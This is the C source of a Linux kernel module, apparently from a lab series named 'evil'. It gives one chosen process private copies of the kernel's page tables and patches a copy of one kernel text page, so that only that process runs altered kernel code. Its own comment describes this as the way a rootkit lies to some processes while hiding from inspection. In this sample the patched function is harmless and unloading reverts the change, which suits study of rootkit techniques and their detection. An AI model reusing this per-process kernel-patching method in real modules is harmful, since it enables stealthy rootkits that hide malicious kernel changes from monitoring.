// SPDX-License-Identifier: GPL-2.0-only
/*
 * evil-shadow pid=N - gives a process a kernel of its own: the last entry of its
 * top page table leads to copies of the tables that map the kernel's text, and
 * one page of the text is a copy, too, and changed.  The kernel that all others
 * run, and that who looks through init_top_pgt sees, is as it was; so works a
 * rootkit that only lies to some processes, and one that knows it is watched.
 *
 * Here the function changed is one that the process does not call.  Removing
 * the module gives the process the kernel's tables back.  Four levels only.
 */
#include <linux/pid.h>
#include <linux/sched/mm.h>
#include <linux/sched/task.h>

#include "evil.h"

#define PLACE	"write_sysrq_trigger"
#define ENTRIES	512
#define FRAME	0x000ffffffffff000ull
#define HUGE_2M	0x000fffffffe00000ull

static const u8 code[] = { 0x31, 0xc0, 0xc3 };	/* xor %eax,%eax; ret */

static int pid;
module_param(pid, int, 0);

static void (*flush_all)(void);
static struct mm_struct *mm;
static u64 *top;			/* the entry changed */
static u64 was;
static u64 *copy[4];			/* of levels 3 to 1, and of the text */

static u64 *at(u64 entry)
{
	return __va(entry & FRAME);
}

/* The entry of va in a copied table of a level, 1 the lowest. */
static u64 *entry_of(u64 *table, unsigned long va, int level)
{
	return &table[va >> (12 + 9 * (level - 1)) & (ENTRIES - 1)];
}

/* Fills the copies, from the top table's entry down; each leads to the next. */
static int fill(unsigned long va)
{
	u64 *entry;
	int i;

	memcpy(copy[0], at(was), PAGE_SIZE);
	entry = entry_of(copy[0], va, 3);
	if (!(*entry & _PAGE_PRESENT) || *entry & _PAGE_PSE)
		return -EOPNOTSUPP;
	memcpy(copy[1], at(*entry), PAGE_SIZE);
	*entry = (*entry & ~FRAME) | __pa(copy[1]);
	entry = entry_of(copy[1], va, 2);
	if (!(*entry & _PAGE_PRESENT))
		return -EOPNOTSUPP;
	if (*entry & _PAGE_PSE) {	/* as small pages */
		for (i = 0; i < ENTRIES; i++)
			copy[2][i] = ((*entry & HUGE_2M) + i * PAGE_SIZE) |
				     (*entry & ~(FRAME | _PAGE_PSE));
		*entry = __pa(copy[2]) | _KERNPG_TABLE;
	} else {
		memcpy(copy[2], at(*entry), PAGE_SIZE);
		*entry = (*entry & ~FRAME) | __pa(copy[2]);
	}
	memcpy(copy[3], (void *)(va & PAGE_MASK), PAGE_SIZE);
	memcpy((u8 *)copy[3] + offset_in_page(va), code, sizeof(code));
	/* Not global: the processor must not keep it for others. */
	entry = entry_of(copy[2], va, 1);
	*entry = (*entry & ~(FRAME | _PAGE_GLOBAL)) | __pa(copy[3]);
	return 0;
}

static void free_all(void)
{
	int i;

	for (i = 0; i < 4; i++)
		free_page((unsigned long)copy[i]);
	if (mm)
		mmdrop(mm);
}

static int take_mm(void)
{
	struct task_struct *task = get_pid_task(find_vpid(pid), PIDTYPE_TGID);
	struct mm_struct *used;

	if (!task)
		return -ESRCH;
	used = get_task_mm(task);
	put_task_struct(task);
	if (!used)
		return -ESRCH;
	mmgrab(used);			/* its top table stays after its end */
	mm = used;
	mmput(used);
	return 0;
}

static int __init evil_init(void)
{
	unsigned long va = evil_symbol(PLACE);
	int i, r;

	flush_all = (void *)evil_symbol("flush_tlb_all");
	if (!flush_all || !va || pgtable_l5_enabled() ||
	    offset_in_page(va) + sizeof(code) > PAGE_SIZE)
		return -EOPNOTSUPP;
	r = take_mm();
	for (i = 0; i < 4 && !r; i++) {
		copy[i] = (u64 *)get_zeroed_page(GFP_KERNEL);
		if (!copy[i])
			r = -ENOMEM;
	}
	if (!r) {
		top = entry_of((u64 *)mm->pgd, va, 4);
		was = *top;
		r = fill(va);
	}
	if (r) {
		free_all();
		return r;
	}
	WRITE_ONCE(*top, (was & ~FRAME) | __pa(copy[0]));
	flush_all();
	return 0;
}

static void __exit evil_exit(void)
{
	WRITE_ONCE(*top, was);
	flush_all();
	free_all();
}

module_init(evil_init);
module_exit(evil_exit);
MODULE_DESCRIPTION("lab: a process with a kernel of its own");
MODULE_LICENSE("GPL");
